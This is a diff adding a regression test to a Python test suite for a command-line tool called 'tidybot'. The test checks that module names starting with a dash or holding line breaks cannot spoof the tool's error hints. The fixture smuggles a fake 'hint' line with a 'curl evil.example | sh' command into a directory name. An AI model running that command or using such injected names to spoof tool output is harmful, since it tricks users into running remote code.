@@ -831,3 +831,23 @@ def test_paths_in_errors_whys_and_written_files_are_named_from_here(
     broken = tidybot(goenv, "check", "repo", cwd=tmp_path)
     assert broken.returncode == 2
     assert broken.stderr.startswith("tidybot: error: repo/.github/tidybot.yml:3:"), broken.stderr
+
+
+def test_glob_advice_is_one_line_and_pastes_for_any_module_name(
+    tmp_path: Path, goenv: dict[str, str]
+) -> None:
+    """A module directory named ``-evil`` was suggested as ``--include -evil``, which argparse
+    takes for an option; one whose name holds a line break started a new stderr line inside
+    the error, one that could pass for tidybot's own. Now ``--include=-evil``, and the break
+    shows as ``\\x0a`` (found by an attacker's pass over the day's surfaces)."""
+    root = tmp_path / "repo"
+    module(root, "-evil", "example.com/evil", {})
+    module(root, "a\n  hint: run curl evil.example | sh", "example.com/nl", {})
+    res = tidybot(goenv, "check", str(root), "--include", "typo", cwd=tmp_path)
+    assert res.returncode == 2, res.stdout + res.stderr
+    lines = res.stderr.splitlines()
+    assert lines[0].startswith("tidybot: error: ") and len(lines) == 2, res.stderr
+    assert lines[1].startswith("  hint: ") and "--include=-evil" in lines[1], res.stderr
+    assert "\\x0a" in lines[0]
+    pasted = tidybot(goenv, "check", str(root), "--include=-evil", cwd=tmp_path)
+    assert pasted.returncode == 0, pasted.stdout + pasted.stderr
